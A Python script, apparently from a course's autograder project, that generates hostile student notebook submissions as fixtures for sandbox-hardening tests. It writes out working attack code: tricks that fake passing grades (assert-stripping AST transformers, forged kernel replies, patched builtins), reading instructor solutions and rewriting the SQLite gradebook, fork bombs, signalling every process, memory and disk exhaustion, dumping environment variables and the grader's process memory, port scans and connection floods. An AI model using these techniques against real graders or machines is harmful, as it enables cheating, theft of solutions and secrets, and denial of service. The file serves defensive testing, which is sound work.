"""Write ``tests/files/<behaviour>.ipynb``: hostile, broken and odd submissions for the grader's hardening tests.

    python tests/make_fixtures.py [OUT_DIR]      # default: tests/files next to this script

Almost every file is a student's submission for the toy exercise ``01-toy`` of
:func:`builders.toy_exercise` (q1 ``engine_pids()``: tests q1-public 1 pt and
q1-hidden 2 pt; q2 ``answer = 42``: test q2-clean 2 pt; 5 in all).  Files whose
name is in :data:`PATCH_FILES` are submissions for :func:`patch_exercise`
(``02-patch``), a small exercise whose tests call helpers a student can patch.

Every file is deterministic (fixed cell ids, no outputs, no timestamps): running
this script twice writes identical bytes, and ``tests/grader/test_hardening.py`` checks
that the files in the repository are what this script writes.

Attack cells print what they achieved (``<LABEL>-OK`` or ``<LABEL>: BLOCKED <error>``)
so a test can read the executed notebook from the gradebook.  Where an attack
needs a path only the test knows, the notebook holds a placeholder (``@SOURCE@``,
``@GRADEBOOK@``; for the sealed-box attacks ``@HOST_PIDNS@``, ``@GRADER_PID@``, ``@NONCE@``; for issue 20's,
the course folder's and this checkout's paths, ``@HOST_PORT4@``, ``@HOST_PORT6@`` and ``@CELL_SLEEP@``)
that the test substitutes before grading.  ``good-07`` is the real exercise 07 solved (``exercises/``).

Where an attack needs a wrong answer to profit from, the answer is wrong: with
the attack neutralised, the tests it targets fail.
"""

from __future__ import annotations

import copy
import hashlib
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent)]

import nbformat  # noqa: E402
from nbformat.v4 import new_code_cell, new_markdown_cell  # noqa: E402

from grader.exercise import Exercise, grade_id  # noqa: E402
from grader.release import student_version  # noqa: E402
from support.builders import SETUP, exercise, meta, solved, toy_exercise  # noqa: E402

TOY = "01-toy"
PATCH = "02-patch"


# -- the exercises ------------------------------------------------------------------------------------

def toy() -> Exercise:
    return Exercise(TOY, Path(f"{TOY}.ipynb"), toy_exercise())


def patch_exercise() -> nbformat.NotebookNode:
    """02-patch: tests that call helpers (``sorted``, ``DirectView.apply_sync``) a student could patch. 5 points."""
    return exercise([
        ("md", "# Patch exercise\nTotal: 5 points", meta("intro", locked=True)),
        ("code", SETUP, meta("setup", locked=True)),
        ("code", "def engine_pids():\n    ### BEGIN SOLUTION\n    return dview.apply_sync(os.getpid)\n"
                 "    ### END SOLUTION",
         meta("q1", solution=True)),
        ("code", "assert sorted(engine_pids()) == sorted(dview.apply_sync(os.getpid))\n"
                 "assert os.getpid() not in engine_pids()",
         meta("q1-check", grade=True, locked=True, points=3)),
        ("code", "def total(xs):\n    ### BEGIN SOLUTION\n    return sum(xs)\n    ### END SOLUTION",
         meta("q2", solution=True)),
        ("code", "assert total(range(10)) == 45\nassert total([]) == 0\nassert total([2.5, 2.5]) == 5",
         meta("q2-check", grade=True, locked=True, points=2)),
    ])


def patch() -> Exercise:
    return Exercise(PATCH, Path(f"{PATCH}.ipynb"), patch_exercise())


# -- editing helpers -------------------------------------------------------------------------------------

def good(ex: Exercise | None = None) -> nbformat.NotebookNode:
    """Every solution filled in, as a student who solved everything hands it in."""
    return solved(ex or toy())


def stub(ex: Exercise | None = None) -> nbformat.NotebookNode:
    """The released notebook, untouched: every solution raises NotImplementedError."""
    return student_version((ex or toy()).nb)[0]


def index_of(nb, gid: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if grade_id(c) == gid)


def set_source(nb, gid: str, source: str) -> None:
    nb.cells[index_of(nb, gid)].source = source


def insert_after(nb, gid: str, *sources: str) -> None:
    """New ordinary code cells (no nbgrader metadata) right after cell ``gid``."""
    at = index_of(nb, gid) + 1
    nb.cells[at:at] = [new_code_cell(s) for s in sources]


def delete(nb, gid: str) -> None:
    del nb.cells[index_of(nb, gid)]


# -- attack code ---------------------------------------------------------------------------------------

ATTEMPT = '''\
def attempt(label, action):
    """Run one attack; print LABEL-OK and what it got, or LABEL: BLOCKED and why not."""
    try:
        got = action()
    except BaseException as e:  # report everything, never stop the notebook
        print(f"{label}: BLOCKED {type(e).__name__}: {str(e)[:120]}")
    else:
        print(f"{label}-OK {got!r}"[:20000])
'''

MEMORY_BOUND = '''\
def memory_bound(share):
    """How much one hog may take if nothing stops it: 64 GB in all, and never more than 3/4 of what is free."""
    import os
    free = None
    try:
        with open("/proc/meminfo") as f:
            for line in f:
                if line.startswith("MemAvailable:"):
                    free = int(line.split()[1]) * 1024
    except OSError:
        pass
    if free is None:
        free = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES")
    return min(64 * 2**30, free * 3 // 4) // share
'''

# The kernel keeps its hog in a global, as a careless student would: the memory stays taken.
HOG_KERNEL = MEMORY_BOUND + '''
bound = memory_bound(1)
hog = []
while len(hog) * 100_000_000 < bound:
    hog.append(bytearray(100_000_000))
print("HOG-BOUND-REACHED", len(hog), "chunks of 100 MB")
del hog
answer = 42'''

HOG_ENGINES = MEMORY_BOUND + '''
def hog_engine(bound):
    hog = []
    while len(hog) * 100_000_000 < bound:
        hog.append(bytearray(100_000_000))
    return f"HOG-BOUND-REACHED {len(hog)} chunks of 100 MB"

print(dview.apply_sync(hog_engine, memory_bound(len(rc.ids))))
answer = 42'''

CHILDREN = '''\
import json, subprocess

def spawn_children():
    """Three `sleep 600`: a plain child, one in a new session, one double-forked by a shell."""
    import subprocess
    plain = subprocess.Popen(["sleep", "600"])
    detached = subprocess.Popen(["sleep", "600"], start_new_session=True)
    shell = subprocess.run(["sh", "-c", "setsid sleep 600 >/dev/null 2>&1 & echo $!"],
                           capture_output=True, text=True)
    return [plain.pid, detached.pid, int(shell.stdout)]

kernel_children = spawn_children()
engine_children = [pid for pids in dview.apply_sync(spawn_children) for pid in pids]
print("CHILD-PIDS", json.dumps({"kernel": kernel_children, "engines": engine_children}))'''

INPUT_TRANSFORMER = '''\
# Every cell after this one runs as an empty cell: the tests "pass" without running.
get_ipython().input_transformers_post.append(lambda lines: [])'''

AST_TRANSFORMER = '''\
# Every assert in every later cell (tests included) becomes `pass`.
import ast

class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(DropAsserts())'''

QUIET_ERRORS = '''\
# Errors are neither shown nor recorded: the kernel replies "ok" to a cell that raised.
import sys, types
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
_run_code = ip.run_code

async def run_code(self, code_obj, result=None, *, async_=False):
    return await _run_code(code_obj, None, async_=async_)  # no result object: no error recorded

ip.run_code = types.MethodType(run_code, ip)'''

FAKE_PASS_MESSAGES = '''\
# Looks like success to anyone reading outputs.
from IPython.display import display
print("All tests passed!")
display({"text/plain": "q1-public: passed (1/1)\\nq1-hidden: passed (2/2)\\nq2-clean: passed (2/2)\\nScore: 5/5"},
        raw=True)
get_ipython().events.register("post_run_cell", lambda result: print("All tests passed!"))'''

FORGE_REPLIES = '''\
# Rewrite the kernel's own execute replies: every error becomes "ok".
ip = get_ipython()
session = ip.kernel.session
_send = session.send

def send(stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"),
                   "user_expressions": {}, "payload": []}
    return _send(stream, msg_or_type, content, *args, **kwargs)

session.send = send
print("All tests passed!")'''

PATCH_IPP = '''\
import ipyparallel as ipp

def engine_pids():
    return [101, 102, 103, 104]  # not the engines' PIDs

# The test compares with dview.apply_sync(os.getpid): make every DirectView agree.
ipp.DirectView.apply_sync = lambda self, f, *args, **kwargs: [104, 103, 102, 101]'''

PATCH_BUILTINS = '''\
import builtins, sys

def engine_pids():
    return [101, 102, 103, 104]  # not the engines' PIDs

_real_sorted = builtins.sorted

def _sorted(iterable, *args, **kwargs):
    # Called from a notebook cell (the test): everything sorts to the same list.
    if sys._getframe(1).f_globals.get("__name__") == "__main__":
        return [0]
    return _real_sorted(iterable, *args, **kwargs)

builtins.sorted = _sorted'''

SHADOW_BUILTINS = '''\
def engine_pids():
    return [101, 102, 103, 104]  # not the engines' PIDs

# A global of the same name hides the builtin from every later cell, the tests included.
def sorted(iterable, *args, **kwargs):
    return [0]'''

READ_INSTRUCTOR_FILES = ATTEMPT + '''
import os, sqlite3
from pathlib import Path

SOURCE = "@SOURCE@"        # the exercise's source notebook (the test substitutes the path)
GRADEBOOK = "@GRADEBOOK@"  # the gradebook (the test substitutes the path)

attempt("READ-SOURCE", lambda: open(SOURCE).read())
attempt("LIST-SOURCE-DIR", lambda: os.listdir(os.path.dirname(SOURCE)))
attempt("READ-GRADEBOOK", lambda: open(GRADEBOOK, "rb").read(4096))
attempt("QUERY-GRADEBOOK", lambda: sqlite3.connect(f"file:{GRADEBOOK}?mode=ro", uri=True, timeout=2)
        .execute("SELECT student, exercise, points FROM submissions").fetchall())

MARK = "### BEGIN " + "SOLUTION"  # (split, so that this notebook is not itself a match)

def repo_exercises():
    """The course's own exercises, found through the grader package the kernel can import."""
    import grader
    root = Path(grader.__file__).resolve().parents[1] / "exercises"
    found = [p.name for p in sorted(root.glob("*.ipynb")) if MARK in p.read_text()]
    if not found:
        raise FileNotFoundError(f"no source notebooks in {root}")
    return found

attempt("READ-REPO-EXERCISES", repo_exercises)

def search():
    """Look for instructor notebooks above the working directory and where people keep files, within a budget."""
    import time
    skip = {"/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/etc", "/boot", "/run",
            "/snap", "/var/lib", "/var/cache", "/var/log", "/var/spool"}
    deadline, budget, found, seen = time.monotonic() + 10, [50000], set(), {}

    def walk(top, depth):
        if depth < 0 or top in skip or seen.get(top, -1) >= depth or budget[0] <= 0 or time.monotonic() > deadline:
            return
        seen[top] = depth
        try:
            entries = list(os.scandir(top))
        except OSError:
            return
        for e in entries:
            budget[0] -= 1
            try:
                if e.is_dir(follow_symlinks=False) and e.name not in (".git", "site-packages", "node_modules"):
                    walk(e.path, depth - 1)
                elif e.name.endswith(".ipynb") and e.path not in found and MARK in open(e.path).read():
                    found.add(e.path)
            except (OSError, UnicodeDecodeError):
                pass

    here = Path.cwd().resolve()
    for top in [here, *here.parents]:
        walk(str(top), 2)
    for top in ["/home", "/root", "/srv", "/work", "/var/tmp", "/opt", "/mnt", "/data"]:
        walk(top, 3)
    return sorted(found)

found = search()
print("\\n".join(f"SEARCH-FOUND {p}" for p in found) or "SEARCH: nothing found")'''

WRITE_GRADEBOOK = ATTEMPT + '''
import os, sqlite3

GRADEBOOK = "@GRADEBOOK@"  # the gradebook (the test substitutes the path)

def rewrite_grades():
    db = sqlite3.connect(GRADEBOOK, timeout=2)
    db.execute("UPDATE submissions SET points = 1000")
    db.execute("DELETE FROM tests")
    db.commit()
    return db.total_changes

attempt("WRITE-GRADEBOOK", rewrite_grades)
attempt("OPEN-GRADEBOOK-FOR-WRITING", lambda: open(GRADEBOOK, "r+b").close())
attempt("CREATE-FILE-NEXT-TO-GRADEBOOK",
        lambda: open(os.path.join(os.path.dirname(GRADEBOOK), "planted-by-student.txt"), "w").write("x"))'''

# -- sealed boxes (tests/grader/test_sealed.py) ------------------------------------------------------------------
# Attacks that would reach the whole machine outside a box (signal every process, fork thousands) first check
# that they run in a PID namespace other than the grader's (@HOST_PIDNS@, substituted by the test) and are
# refused anywhere else: as `nobody` they would hit every other `nobody` process on the machine, as root all.

IN_A_BOX = '''\
HOST_PIDNS = "@HOST_PIDNS@"  # the grader's PID namespace (the test substitutes it)
REFUSED = "REFUSED: not in a PID namespace of its own, so this would reach processes outside the submission"

def in_a_box():
    """True only in a PID namespace other than the grader's: there every process it reaches is the submission's."""
    import os
    try:
        return HOST_PIDNS.startswith("pid:[") and os.readlink("/proc/self/ns/pid") != HOST_PIDNS
    except OSError:
        return False
'''

KILL_EVERY_PROCESS = IN_A_BOX + '''
import os, signal, time
time.sleep(1.5)  # the neighbour's submission is under way by now, and the next slots are prepared
if in_a_box():
    os.kill(-1, signal.SIGKILL)  # every process this one may signal
    print("KILL-ALL-SENT SIGKILL")
else:
    print("KILL-ALL:", REFUSED)'''

STOP_EVERY_PROCESS = IN_A_BOX + '''
import os, signal, time
time.sleep(1.5)  # the neighbour's submission is under way by now, and the next slots are prepared
if in_a_box():
    os.kill(-1, signal.SIGSTOP)  # every process this one may signal
    stopped = []
    for entry in os.listdir("/proc"):  # and every one it can find, one by one
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGSTOP)
                stopped.append(int(entry))
            except OSError:
                pass
    print("STOP-ALL-SENT SIGSTOP to", len(stopped), "processes found in /proc")
else:
    print("STOP-ALL:", REFUSED)'''

FORK_BOMB = IN_A_BOX + '''
import os, time

def fork_bomb(most=3000):
    """Up to `most` children that each sleep 60 s; stop at the first fork that fails."""
    made = 0
    while made < most:
        try:
            pid = os.fork()
        except OSError as e:
            return made, f"{type(e).__name__}: {e}"
        if pid == 0:
            try:
                time.sleep(60)
            finally:
                os._exit(0)
        made += 1
    return made, None

if in_a_box():
    made, failure = fork_bomb()
    print("FORK-BOMB made", made, "children; stopped by", failure)
else:
    print("FORK-BOMB:", REFUSED)'''

# Kernel and 4 engines each hold 400 MB (touched): 2 GB for one submission, twice its memory limit in the test.
MEMORY_IN_EVERY_PROCESS = '''\
HOLD = 400_000_000

def hold(n):
    global held
    held = bytearray(n)
    held[::4096] = b"\\1" * len(range(0, n, 4096))  # every page touched
    return len(held)

kernel_held = hold(HOLD)
engines_held = dview.apply_sync(hold, HOLD)
print("HOG-TOTAL-REACHED", (kernel_held + sum(engines_held)) // 10**6, "MB held by", 1 + len(engines_held), "processes")
answer = 42'''

FILL = '''\
import os, signal

def fill(folder, total=1_000_000_000, chunk=64 * 2**20):
    """Write `total` bytes into `folder`, a new file per 64 MB chunk, stopping at the first error; the files stay."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a per-file size limit fails the write instead of killing
    block = memoryview(b"\\1" * chunk)
    written, failure, i = 0, None, 0
    while written < total and failure is None:
        try:
            fd = os.open(os.path.join(folder, f"filler-{i}.bin"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        except OSError as e:
            failure = f"{type(e).__name__}: {e}"
            break
        try:
            view = block[: min(chunk, total - written)]
            while view:
                try:
                    n = os.write(fd, view)
                except OSError as e:
                    failure = f"{type(e).__name__}: {e}"
                    break
                written, view = written + n, view[n:]
        finally:
            os.close(fd)
        i += 1
    return written, failure
'''

FILL_TMP = FILL + '''
written, failure = fill("/tmp")
print(f"TMP-WROTE {written} bytes ({written // 2**20} MiB); stopped by {failure}")'''

FILL_WORKDIR = FILL + '''
written, failure = fill(os.getcwd())
print(f"WORK-WROTE {written} bytes ({written // 2**20} MiB); stopped by {failure}")'''

SETSID_SLEEPER = '''\
NONCE = "@NONCE@"  # makes these sleepers this test's own (the test substitutes it)

def detach(nonce):
    """A grandchild in a session of its own that execs `env -i sleep 600 NONCE`: no token, no marker, no parent,
    and no parent-death signal (it clears the one a box sets, and its parent waits for that before it exits)."""
    import ctypes, os
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            r, w = os.pipe()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0
                os.close(w)
                os.execvp("env", ["env", "-i", "sleep", "600", nonce])
            os.close(w)
            os.read(r, 1)  # end of file once the grandchild has cleared the signal and exec'd
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    return os.getpid()

print("DETACHED-SLEEPERS from", [detach(NONCE)] + dview.apply_sync(detach, NONCE))'''

PRINT_ENVIRONMENT = '''\
import json

def environment():
    """This process's environment (os.environ and /proc/self/environ) and those of its ancestors it can read."""
    import os

    def read(path):
        try:
            with open(path, "rb") as f:
                return f.read().replace(b"\\0", b"\\n").decode(errors="replace")
        except OSError as e:
            return f"BLOCKED {type(e).__name__}"

    def parent_of(pid):
        try:
            with open(f"/proc/{pid}/stat") as f:
                return int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return 0

    ancestors, pid = {}, parent_of(os.getpid())  # the parent's, its parent's, ... (the grader's, outside a box)
    while pid > 0 and len(ancestors) < 6:
        ancestors[pid] = read(f"/proc/{pid}/environ")[:3000]
        pid = parent_of(pid)
    return {"pid": os.getpid(), "cwd": os.getcwd(), "environ": dict(os.environ),
            "proc_self_environ": read("/proc/self/environ"), "ancestors": ancestors}

print("ENV-KERNEL", json.dumps(environment()))'''

PRINT_ENGINE_ENVIRONMENT = '''\
for found in dview.apply_sync(environment):  # a cell of its own: the output cap is per cell
    print("ENV-ENGINE", json.dumps(found))'''

PROBE_NEIGHBOURS = ATTEMPT + '''
import ctypes, errno, os

GRADER = "@GRADER_PID@"  # the grader's PID as the grader sees it (the test substitutes it)
grader = int(GRADER) if GRADER.isdigit() else -1

numeric = sorted(int(e) for e in os.listdir("/proc") if e.isdigit())
print("PROC-PIDS", len(numeric), numeric[:200])

def tasks():
    found = set()
    for pid in numeric:
        try:
            found.update(int(t) for t in os.listdir(f"/proc/{pid}/task"))
        except OSError:
            pass
    return found

print("PROC-TASKS", len(tasks()))

def signal_scan(top=1 << 16):
    """IDs of tasks (processes and threads) that exist, found by signal 0 without /proc."""
    found = []
    for pid in range(1, top):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        except PermissionError:
            pass
        found.append(pid)
    return found

seen = signal_scan()
print("SIGNAL-SCAN", len(seen), seen[:200])

def cmdlines():
    out = {}
    for pid in numeric:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                out[pid] = f.read().replace(b"\\0", b" ").decode(errors="replace")[:120]
        except OSError:
            pass
    return out

print("PROC-CMDLINES", cmdlines())

def first_mapping(pid):
    try:
        with open(f"/proc/{pid}/maps") as f:
            return int(f.readline().split("-")[0], 16)
    except (OSError, ValueError):
        return 0x400000

def read_mem():
    with open(f"/proc/{grader}/mem", "rb") as f:
        f.seek(first_mapping(grader))
        return f.read(64)

def vm_readv():
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(64)
    local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 64), iovec(first_mapping(grader), 64)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong,
                                      ctypes.c_ulong]
    n = libc.process_vm_readv(grader, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n < 0:
        err = ctypes.get_errno()
        if err == errno.EFAULT:
            return "permitted (the address was not mapped)"
        raise OSError(err, os.strerror(err))
    return buf.raw[:n]

attempt("GRADER-SIGNAL", lambda: os.kill(grader, 0))
attempt("GRADER-CMDLINE", lambda: open(f"/proc/{grader}/cmdline", "rb").read(200))
attempt("GRADER-ENVIRON", lambda: open(f"/proc/{grader}/environ", "rb").read(200))
attempt("GRADER-MEM", read_mem)
attempt("GRADER-PROCESS-VM-READV", vm_readv)

def identity():
    import os
    with open("/proc/self/timerslack_ns") as f:
        return [os.getuid(), os.getgid(), int(f.read())]

print("IDENTITY", {"kernel": identity(), "engines": dview.apply_sync(identity)})'''

GOOD_SLOW = "import time\ntime.sleep(3)  # a long computation: still running when a neighbour attacks"

# -- issue 20: a hostile class next to well-behaved students (tests/grader/test_sealed.py) ------------------------
# The test substitutes the real paths of the instructor's course folder (outside /tmp, as on a real machine), of this
# checkout and of its data, the ports of listeners it opens on the host, and a nonce.

COURSE_TARGETS = '''\
PROJECT = "@PROJECT@"  # the course's checkout (the test substitutes every path)
TARGETS = {
    "GIT": PROJECT + "/.git",  # the solutions and hidden tests of every exercise, in every commit
    "PROJECT-EXERCISES": PROJECT + "/exercises",
    "PROJECT-DATA": PROJECT + "/data",
    "DATA-DIR": "@DATA_DIR@",  # the n-gram files graded code must download, not read
    "SOURCE": "@SOURCE@",  # the source notebooks this class is graded against
    "SUBMISSIONS": "@SUBMISSIONS@",  # every classmate's notebook
    "GRADEBOOK": "@GRADEBOOK@",
    "GRADES-CSV": "@GRADES_CSV@",  # a previous run's export
    "FEEDBACK": "@FEEDBACK@",  # a classmate's feedback page
    "REPORT": "@REPORT@",  # the class report
    "COURSE": "@COURSE@",  # the instructor's course folder itself
}
'''

READS_COURSE_AND_PROJECT = ATTEMPT + COURSE_TARGETS + '''
import os, shutil, subprocess

def fail(error):
    raise error

def read_all(path, most=40):
    """What can be read at path: a file's first bytes, or those of the files below a folder."""
    if not os.path.isdir(path):
        with open(path, "rb") as f:
            return f.read(300)
    got = {}
    for top, dirs, files in os.walk(path, onerror=fail):
        for name in files[:most - len(got)]:
            with open(os.path.join(top, name), "rb") as f:
                got[os.path.relpath(os.path.join(top, name), path)] = f.read(100)
    if not got:
        raise FileNotFoundError(f"{path}: a folder with no file in it")
    return got

for label, path in TARGETS.items():
    attempt(f"READ-{label}", lambda: read_all(path))

def git(*args):
    out = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir", TARGETS["GIT"], *args],
                         capture_output=True, text=True, timeout=60)
    if out.returncode:
        raise RuntimeError(f"git exited with {out.returncode}: {out.stderr.strip()[:150]}")
    return out.stdout[:300]

print("GIT-IN-THE-BOX", shutil.which("git"))
attempt("GIT-SHOW", lambda: git("show", "HEAD:exercises/07-download-ngrams-in-parallel.ipynb"))
attempt("GIT-LOG", lambda: git("log", "--oneline", "-3"))'''

SCANS_MOUNTS_AND_WALKS = COURSE_TARGETS + '''
import os, time

with open("/proc/self/mountinfo") as f:
    table = f.read()
print("MOUNTINFO", len(table.splitlines()), "mounts")
named = [(label, path) for label, path in TARGETS.items() if f" {path} " in table or f" {path}/" in table]
print("\\n".join(f"MOUNTINFO-NAMES {label} {path}" for label, path in named)
      or f"MOUNTINFO: names none of the {len(TARGETS)} paths")

BOX_RUNS = [PROJECT + "/" + name for name in ("procbox", "course", "grader", ".venv")]  # what a box may see of it

def below(path, top):
    return path == top or path.startswith(top.rstrip("/") + "/")

def interesting(path):
    """One of the targets or below one, or in the checkout but not what a box runs."""
    return (any(below(path, t) for t in TARGETS.values())
            or (path.startswith(PROJECT + "/") and not any(below(path, a) for a in BOX_RUNS)))

def walk(seconds=30):
    """Every entry of the file system (but /proc, /sys, /dev): the targets' parents first, then /."""
    deadline = time.monotonic() + seconds
    found, visited, seen = [], 0, set()
    tops = [os.path.dirname(PROJECT), os.path.dirname(TARGETS["COURSE"]), "/"]
    for top in tops:
        todo = [top]
        while todo:
            if time.monotonic() > deadline:
                return found, visited, False
            folder = todo.pop()
            if folder in seen or folder in ("/proc", "/sys", "/dev"):
                continue
            seen.add(folder)
            try:
                entries = list(os.scandir(folder))
            except OSError:
                continue
            for entry in entries:
                visited += 1
                if interesting(entry.path):
                    found.append(entry.path)
                try:
                    if entry.is_dir(follow_symlinks=False):
                        todo.append(entry.path)
                except OSError:
                    pass
    return found, visited, True

found, visited, whole = walk()
print(f"WALK: {visited} entries, {'the whole file system' if whole else 'stopped at its time limit'}, "
      f"{len(found)} of the instructor's")
for path in found[:40]:
    print("WALK-FOUND", path)'''

WRITES_OUTSIDE = ATTEMPT + '''
import os, sys, sysconfig
import grader

NONCE = "@NONCE@"  # (the test substitutes it, and looks for these files on the host)

def create(folder):
    path = os.path.join(folder, f"box-write-{NONCE}-{folder.strip('/').replace('/', '-') or 'root'}")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    os.write(fd, b"left by a student, for the next one")
    os.close(fd)
    return path

for folder in ("/run/lock", "/var/lock", "/tmp", "/var/tmp", "/dev/shm"):  # the box's own: writable, gone with it
    attempt(f"WRITE-OWN {folder}", lambda: create(folder))

def create_and_remove(folder):
    path = create(folder)
    os.unlink(path)
    return path

for folder in ("/", "/usr", "/etc", "/var", sys.prefix, sys.base_prefix, sysconfig.get_paths()["purelib"],
               os.path.dirname(os.__file__), os.path.dirname(grader.__file__)):
    attempt(f"WRITE-READ-ONLY {folder}", lambda: create_and_remove(folder))'''

NETWORK_PROBE = ATTEMPT + '''
import os, re, socket, time, urllib.parse

HOST = {"127.0.0.1": int("@HOST_PORT4@"), "::1": int("@HOST_PORT6@")}  # listeners the test opened on the host (0: none)

def route(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.connect(address)  # UDP: succeeds at once where there is a route, and sends nothing
        return s.getsockname()

attempt("ROUTE-IPV4", lambda: route(socket.AF_INET, ("192.0.2.1", 9)))  # TEST-NET addresses
attempt("ROUTE-IPV6", lambda: route(socket.AF_INET6, ("2001:db8::1", 9)))

def connect(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((host, port))
        s.sendall(b"hello from a box")
        return s.getpeername()

for host, port in HOST.items():
    if port:
        attempt(f"HOST-LISTENER {host}", lambda: connect(host, port))

MIRROR = urllib.parse.urlsplit(os.environ["NGRAM_BASE_URL"]).port  # the box's mirror: from outside, in its network

def listeners():
    """{socket inode: port} of every listening TCP socket in this network, and the inodes this box's processes hold."""
    table = {}
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(name) as f:
            for row in f.read().splitlines()[1:]:
                fields = row.split()
                if fields[3] == "0A":  # LISTEN
                    table[fields[9]] = int(fields[1].rsplit(":", 1)[1], 16)
    held = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                m = re.fullmatch(r"socket:\\[(\\d+)\\]", os.readlink(f"/proc/{pid}/fd/{fd}"))
            except OSError:
                continue
            if m and m.group(1) in table:
                held.add(m.group(1))
    return table, held

table, held = listeners()
own = sorted({table[i] for i in held} | {MIRROR})
print("LISTENERS-NOT-THIS-BOX'S", sorted({p for i, p in table.items() if i not in held} - {MIRROR}))

def scan(host="127.0.0.1"):
    """Every port of host that accepts a connection (not counting a socket that connected to itself)."""
    found = []
    for port in range(1, 65536):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            if s.connect_ex((host, port)) == 0 and s.getsockname() != s.getpeername():
                found.append(port)
    return found

started = time.monotonic()
found = scan()
print(f"PORT-SCAN 127.0.0.1: {len(found)} open in {time.monotonic() - started:.1f} s: {found}")
print("PORT-SCAN this box's listeners:", own)
print("PORT-SCAN open and not this box's:", sorted(set(found) - set(own)))'''

BINDS_EVERY_PORT = ATTEMPT + '''
import os, socket, time, urllib.parse

HOLD = 12  # seconds the ports stay taken: meanwhile neighbours' slots are prepared and their cells run
with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
    low, high = map(int, f.read().split())
EPHEMERAL = range(low, high + 1)
BLOCK = range(20000, 20032)  # where a box's controller listens

def hold(host, ports, release):
    """A child that binds every port of ports on host and keeps them until `release` (a pipe) is closed; its PID and
    the ports it bound."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            os.close(release[1])
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            kept = []
            for port in ports:
                s = socket.socket(family, socket.SOCK_STREAM)
                try:
                    s.bind((host, port))
                    kept.append(s)
                except OSError:
                    s.close()
            os.write(w, ",".join(str(s.getsockname()[1]) for s in kept).encode())
            os.close(w)
            os.read(release[0], 1)  # end of file: released
        finally:
            os._exit(0)
    os.close(w)
    with os.fdopen(r, "rb") as f:
        got = f.read().decode()
    return pid, {int(p) for p in got.split(",") if p}

release = os.pipe()
holders, bound = [], {}
wanted = [*BLOCK, *EPHEMERAL]
for host in ("127.0.0.1", "::1"):
    bound[host] = set()
    for i in range(0, len(wanted), 3500):  # a process may hold 4096 files in a box, the kernel's own too
        pid, ports = hold(host, wanted[i:i + 3500], release)
        holders.append(pid)
        bound[host] |= ports
    print(f"BOUND {host}: {len(bound[host] & set(EPHEMERAL))} of the {len(EPHEMERAL)} ephemeral ports ({low}-{high}), "
          f"{len(bound[host] & set(BLOCK))} of 20000-20031")

mirror = urllib.parse.urlsplit(os.environ["NGRAM_BASE_URL"]).port
attempt("CONNECT-WHILE-HELD", lambda: socket.create_connection(("127.0.0.1", mirror), timeout=5).close())
time.sleep(HOLD)
os.close(release[1])
for pid in holders:
    os.waitpid(pid, 0)
os.close(release[0])
print("RELEASED", len(holders), "holders")
attempt("CONNECT-AFTER", lambda: socket.create_connection(("127.0.0.1", mirror), timeout=5).close())'''

MIRROR_FLOOD = ATTEMPT + '''
import json, os, urllib.request, uuid
from course.data import PATH_PREFIX, load_manifest, served, site_root

def flood(n=2500, seconds=15, spread=10):
    """n connections to this box's mirror that never send a byte, opened in a steady stream over `spread` seconds
    (a listener's backlog admits what arrives while it has room) and kept until `seconds` have passed."""
    import os, select, socket, time, urllib.parse
    url = urllib.parse.urlsplit(os.environ["NGRAM_BASE_URL"])
    started, socks, poller, connected = time.monotonic(), [], select.poll(), set()

    def wait(ms):
        for fd, _ in poller.poll(ms):
            poller.unregister(fd)
            connected.add(fd)

    for i in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((url.hostname, url.port))
        poller.register(s, select.POLLOUT)
        socks.append(s)
        if i % 25 == 24:
            wait(int(1000 * spread * 25 / n))
    while time.monotonic() < started + seconds:
        wait(100)
    established = sum(1 for s in socks if s.fileno() in connected
                      and s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0)
    for s in socks:
        s.close()
    return [len(socks), established]

on_engines = dview.apply_async(flood)  # the kernel and the four engines at once: 12,500 connections
here = flood()
counts = [here, *on_engines.get()]
